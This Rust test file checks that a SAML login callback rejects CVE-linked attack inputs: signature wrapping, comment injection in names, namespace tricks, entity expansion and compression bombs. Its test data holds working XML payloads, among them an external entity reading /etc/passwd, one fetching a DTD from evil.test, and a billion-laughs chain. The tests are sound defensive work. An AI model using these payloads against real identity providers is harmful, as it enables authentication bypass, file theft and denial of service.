//! SECURITY: documents that two readers take in two ways, and documents that are bombs, through the
//! callback.

use http::Method;
use saml::binding::{Kind, redirect};
use saml::identity_provider::Signed;
use saml::key::NoSigner;

use crate::crypto::at_once;
use crate::keys::IDP;
use crate::saml_case::{Case, WAYS, says};
use crate::saml_idp::with_xml;
use crate::support::surgery::{behind, cut, sign_again};
use crate::world::{Ask, TEAM};

#[track_caller]
fn in_every_way(attack: impl Fn(&str) -> String, reasons: &[&str]) {
    for signed in WAYS {
        says(&Case::new(signed).attacked(&attack), reasons);
    }
}

/// +2: CVE-2025-25291.
#[test]
fn row_02_parser_differential_by_document_type_and_cdata() {
    for doctype in [
        "<!DOCTYPE response SYSTEM 'x\"><!--'>",
        "<!DOCTYPE response [ <!ENTITY lt \"&#38;#60;\"> ]>",
    ] {
        in_every_way(|xml| format!("{doctype}{xml}"), &["document type"]);
    }
    let name = "alice@example.com";
    in_every_way(|xml| xml.replace(name, "<![CDATA[alice@example.com]]>"), &["CDATA"]);
    in_every_way(|xml| xml.replace(name, "<?x?>alice@example.com"), &["processing instruction"]);
}

/// +3: CVE-2025-25292, CVE-2025-66567.
#[test]
fn row_03_signature_and_digest_of_another_namespace_or_place() {
    for (old, new) in [
        ("<ds:DigestValue>", "<ds:DigestValue xmlns:ds=\"urn:x\">"),
        ("<ds:SignedInfo>", "<ds:SignedInfo xmlns:ds=\"urn:x\">"),
        ("<ds:SignatureValue>", "<ds:SignatureValue xmlns:ds=\"urn:x\">"),
        ("></ds:Transform>", "><ds:DigestValue>AAAA</ds:DigestValue></ds:Transform>"),
        ("</ds:SignedInfo>", "</ds:SignedInfo><ds:DigestValue>AAAA</ds:DigestValue>"),
    ] {
        in_every_way(|xml| xml.replacen(old, new, 1), &["the response does not count"]);
    }
    let none = |xml: &str| xml.replace("http://www.w3.org/2000/09/xmldsig#\"", "urn:x\"");
    in_every_way(none, &["not signed", "signature", "Signature"]);
}

/// +4: CVE-2025-23369.
#[test]
fn row_04_entity_reference_in_an_id() {
    in_every_way(|xml| xml.replacen("ID=\"_", "ID=\"&idref;_", 1), &["unknown reference"]);
}

/// +5: "The Fragile Lock", CVE-2025-66568.
#[test]
fn row_05_void_canonicalisation() {
    let relative =
        |xml: &str| xml.replacen("<saml:Assertion ", "<saml:Assertion xmlns:ns=\"1\" ", 1);
    in_every_way(relative, &["relative namespace"]);
    // The digest of nothing, signed by the trusted key.
    let empty = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
    let reason = Case::new(Signed::Assertion).attacked(|xml| {
        let (before, _, after) = cut(xml, "<ds:DigestValue>", "</ds:DigestValue>");
        let xml = [before, "<ds:DigestValue>", empty, "</ds:DigestValue>", after].concat();
        sign_again(&xml, &IDP)
    });
    says(&reason, &["digest"]);
}

/// +6.
#[test]
fn row_06_attribute_pollution() {
    for (new, reason) in [
        (" samlp:ID=\"_evil\" ID=\"_", "an ID attribute with a namespace prefix"),
        (" xml:id=\"_evil\" ID=\"_", "an ID attribute with a namespace prefix"),
        (" ID=\"_evil\" ID=\"_", "an attribute occurs twice"),
    ] {
        in_every_way(|xml| xml.replacen(" ID=\"_", new, 1), &[reason]);
    }
}

/// +7: CVE-2025-29774, CVE-2025-29775, CVE-2019-3465.
#[test]
fn row_07_two_signed_infos_and_a_comment_in_the_digest() {
    let twice = |xml: &str| {
        let end = "</ds:SignedInfo>";
        let from = xml.find("<ds:SignedInfo>").unwrap();
        let to = from + xml[from..].find(end).unwrap() + end.len();
        behind(xml, end, &xml[from..to])
    };
    in_every_way(twice, &["SignedInfo"]);
    for mark in ["<ds:DigestValue>", "<ds:SignatureValue>"] {
        in_every_way(|xml| behind(xml, mark, "<!-- x -->"), &["DigestValue", "SignatureValue"]);
    }
}

/// +8: CVE-2025-47949, CVE-2025-54369. Every text of a person's that is signed, altered by one
/// letter: what is read is what was verified.
#[test]
fn row_08_the_node_that_is_verified_is_the_node_that_is_read() {
    for (old, new) in [
        ("alice@example.com", "blice@example.com"),
        (">staff<", ">stafg<"),
        ("session-1", "session-2"),
        ("PasswordProtectedTransport", "SmartcardPKI"),
    ] {
        in_every_way(|xml| xml.replacen(old, new, 1), &["digest"]);
    }
}

/// +9: CVE-2017-11427 and its family.
#[test]
fn row_09_comment_in_a_name() {
    for new in ["alice<!---->@example.com", "<!---->alice@example.com", "alice@example.com<!---->"]
    {
        in_every_way(|xml| xml.replacen("alice@example.com", new, 1), &["plain text", "NameID"]);
    }
    let evil = "alice@example.com<!---->.evil.test";
    in_every_way(
        |xml| xml.replacen("alice@example.com", evil, 1),
        &["the response does not count"],
    );
}

/// +14.
#[test]
fn row_14_entities_and_document_types() {
    let laughs: String = (1..10).fold("<!ENTITY e0 \"ha\">".to_owned(), |all, n| {
        all + &format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10))
    });
    for (subset, body) in [
        ("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;"),
        ("<!ENTITY % p SYSTEM \"http://evil.test/p.dtd\">%p;", ""),
        (laughs.as_str(), "&e9;"),
        (&format!("<!ENTITY x \"{}\">", "a".repeat(10_000)), &"&x;".repeat(1_000)),
    ] {
        let reason = Case::new(Signed::Both).attacked(|xml| {
            let xml = xml.replacen("alice@example.com", body, 1);
            format!("<!DOCTYPE a [{subset}]>{xml}")
        });
        says(&reason, &["document type"]);
    }
    in_every_way(|xml| xml.replacen("alice", "&alice;", 1), &["unknown reference"]);
    in_every_way(|xml| format!("{}{xml}", "<a>".repeat(10_000)), &["elements within elements"]);
}

/// +15: CVE-2025-25293.
#[test]
fn row_15_deflate_bombs_and_long_bodies() {
    let mut case = Case::new(Signed::Both);
    for xml in [" ".repeat(50_000_000), format!("{}{}", case.xml(), " ".repeat(70_000))] {
        let bomb = redirect::encode("", Kind::Response, &xml, None, None::<&NoSigner>);
        let url = format!("https://{TEAM}/access/callback/corp{}", at_once(bomb).unwrap());
        let ask = Ask { method: Method::GET, url: &url, form: None, headers: vec![] };
        assert_eq!(case.world.send(&mut case.browser, &ask).status, 400);
        says(case.world.last_reason(), &["longer than 65536 bytes"]);
    }
    // A response has no place in an address, even if it fits there.
    let xml = case.xml();
    let small = redirect::encode("", Kind::Response, &xml, None, None::<&NoSigner>);
    let state = format!("&RelayState={}", case.form.fields[1].1);
    let url = format!("https://{TEAM}/access/callback/corp{}{state}", at_once(small).unwrap());
    let ask = Ask { method: Method::GET, url: &url, form: None, headers: vec![] };
    assert_eq!(case.world.send(&mut case.browser, &ask).status, 400);
    let long = format!("{}{}", case.xml(), " ".repeat(300_000));
    let form = with_xml(&case.form, &long);
    says(&case.refused(&form), &["longer than", "more than", "bytes"]);
    assert!(case.world.control.sessions.is_empty());
    case.signs_in();
}
